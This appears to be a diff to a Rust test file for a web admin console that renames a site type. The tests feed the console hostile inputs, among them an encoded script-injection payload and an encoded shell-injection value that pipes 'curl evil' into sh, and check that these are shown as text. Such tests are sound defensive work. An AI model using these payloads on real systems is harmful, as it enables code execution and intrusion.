@@ -5,7 +5,7 @@ use super::{
     browser::Browser,
     pages::{check, every_page, fill},
 };
-use crate::access::site::{ADMIN, Site};
+use crate::access::site::{ADMIN, AccessSite};
 use serde_json::json;
 
 const CORPUS: [&str; 7] = [
@@ -21,7 +21,7 @@ const CORPUS: [&str; 7] = [
 #[tokio::test]
 async fn whatever_comes_from_outside_is_shown_as_text() {
     for text in CORPUS {
-        let site = Site::sqlite().await;
+        let site = AccessSite::sqlite().await;
         let there = fill(&site, text).await;
         let mut browser = Browser::signed_in(&site, ADMIN).await;
         browser.submit("/console/tokens/new", &[("name", text), ("role", "viewer")]).await.expect(200);
@@ -47,7 +47,7 @@ async fn whatever_comes_from_outside_is_shown_as_text() {
 
 #[tokio::test]
 async fn what_stands_in_an_address_is_shown_as_text() {
-    let site = Site::sqlite().await;
+    let site = AccessSite::sqlite().await;
     let mut browser = Browser::signed_in(&site, ADMIN).await;
     let evil = "%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E";
     for address in [
@@ -72,7 +72,7 @@ async fn what_stands_in_an_address_is_shown_as_text() {
 
 #[tokio::test]
 async fn what_is_copied_into_a_terminal_runs_nothing_of_what_stands_in_it() {
-    let site = Site::sqlite().await;
+    let site = AccessSite::sqlite().await;
     let mut browser = Browser::signed_in(&site, ADMIN).await;
     for page in ["", "/engines", "/settings", "/queues", "/audit"] {
         let address = format!("/console{page}?ns=x%27%3Bcurl%20evil%7Csh%3B%27");
